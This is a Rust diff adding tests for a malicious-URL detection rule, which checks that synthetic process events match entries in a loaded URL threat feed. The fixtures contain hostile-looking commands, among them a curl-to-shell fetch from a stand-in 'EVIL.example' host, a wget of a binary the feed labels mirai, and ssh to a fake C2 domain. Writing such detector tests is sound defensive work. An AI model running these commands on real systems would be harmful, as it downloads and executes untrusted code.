@@ -13,10 +13,14 @@ fn shipped() -> Arc<RuleSet> {
 }
 
 fn run_rules(rules: Arc<RuleSet>, events: Vec<Event>) -> Vec<Finding> {
+    run_rules_with(Arc::new(IntelSet::new()), rules, events)
+}
+
+fn run_rules_with(intel: Arc<IntelSet>, rules: Arc<RuleSet>, events: Vec<Event>) -> Vec<Finding> {
     let mut engine = Engine::new(
         &EngineConfig::default(),
         &DetectorsConfig::default(),
-        Arc::new(IntelSet::new()),
+        intel,
         None,
     );
     engine.set_rules(rules).expect("categories register");
@@ -673,4 +677,137 @@ fn waiting_decisions_are_bounded() {
     assert_eq!(engine.rules_waiting(), MAX_WAITING);
     // The 5 oldest alerted at once (one finding: same key, aggregated).
     assert_eq!(out.len(), 5, "{}", out.len());
+}
+
+fn url_feed(text: &str) -> Arc<IntelSet> {
+    let mut set = IntelSet::new();
+    set.push_url_feed(ward_intel::UrlFeed::parse("test-urls", text.as_bytes()).unwrap());
+    Arc::new(set)
+}
+
+fn downloads() -> Vec<Event> {
+    let cmd = |t: u64, pid: u32, exe: &str, argv: &[&str]| {
+        vec![
+            fork(t, pid, 1),
+            in_c(ExecBuilder::new(t + 1, pid, 1, exe))
+                .args(argv)
+                .event(),
+        ]
+    };
+    [
+        // A listed URL, written differently from the feed's line.
+        cmd(
+            10,
+            300,
+            "/usr/bin/wget",
+            &[
+                "wget",
+                "-q",
+                "HTTP://Drop.Example.:80/bins/x86#a",
+                "-O",
+                "/tmp/x",
+            ],
+        ),
+        // A URL on a listed host, inside a shell's -c string.
+        cmd(
+            20,
+            301,
+            "/bin/sh",
+            &["sh", "-c", "curl -fsSL https://EVIL.example/a.sh|sh"],
+        ),
+        // A name under a listed domain, named alone (ssh).
+        cmd(30, 302, "/usr/bin/ssh", &["ssh", "root@a.b.c2.example"]),
+        // Look-alikes: another path on the URL entry's host, a name that only ends like the
+        // domain, a file name, a URL the feed does not list.
+        cmd(
+            40,
+            303,
+            "/usr/bin/wget",
+            &["wget", "http://drop.example/bins/arm"],
+        ),
+        cmd(50, 304, "/usr/bin/ssh", &["ssh", "root@notc2.example"]),
+        cmd(60, 305, "/usr/bin/gcc", &["gcc", "-c", "evil.c"]),
+        cmd(
+            70,
+            306,
+            "/usr/bin/curl",
+            &["curl", "https://registry.npmjs.org/express"],
+        ),
+    ]
+    .concat()
+}
+
+const URLS: &str = "http://drop.example/bins/x86 # mirai\nevil.example\n*.c2.example\n";
+
+#[test]
+fn the_url_rule_answers_from_the_loaded_url_feeds() {
+    let f = run_rules_with(url_feed(URLS), shipped(), downloads());
+    let url: Vec<&Finding> = f
+        .iter()
+        .filter(|f| f.source_str("Rule_Id") == Some("MALICIOUS_URL_OBSERVED"))
+        .collect();
+    let got: Vec<(String, Vec<Evidence>)> = url
+        .iter()
+        .map(|f| (f.processes[0].name.clone(), f.evidence()))
+        .collect();
+    let ev = |field: &str, value: &str, entry: &str| {
+        vec![
+            Evidence {
+                field: field.into(),
+                value: value.into(),
+            },
+            // Which feed entry matched, and its comment.
+            Evidence {
+                field: "url_feed".into(),
+                value: entry.into(),
+            },
+        ]
+    };
+    assert_eq!(
+        got,
+        [
+            (
+                "wget".to_string(),
+                ev(
+                    "argv.url",
+                    "HTTP://Drop.Example.:80/bins/x86#a",
+                    "test-urls: url http://drop.example/bins/x86 (mirai)"
+                )
+            ),
+            (
+                "sh".to_string(),
+                ev(
+                    "argv.url",
+                    "https://EVIL.example/a.sh",
+                    "test-urls: host evil.example"
+                )
+            ),
+            (
+                "ssh".to_string(),
+                ev(
+                    "argv.host",
+                    "a.b.c2.example",
+                    "test-urls: domain *.c2.example"
+                )
+            ),
+        ]
+    );
+    assert_eq!(url[0].category, "Malicious URL Observed");
+    assert_eq!(url[0].severity, Severity::Medium);
+}
+
+#[test]
+fn without_a_url_feed_the_url_rule_finds_nothing() {
+    // Hash feeds only: no URL feed, nothing is listed.
+    let f = run_rules_with(
+        crate::testing::intel("5c0f4d6f0c1b3f6a4a8f1f5b7d3e2c1a0b9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d\n"),
+        shipped(),
+        downloads(),
+    );
+    assert!(
+        !f.iter()
+            .any(|f| f.source_str("Rule_Id") == Some("MALICIOUS_URL_OBSERVED")),
+        "{:?}",
+        rule_ids(&f)
+    );
 }
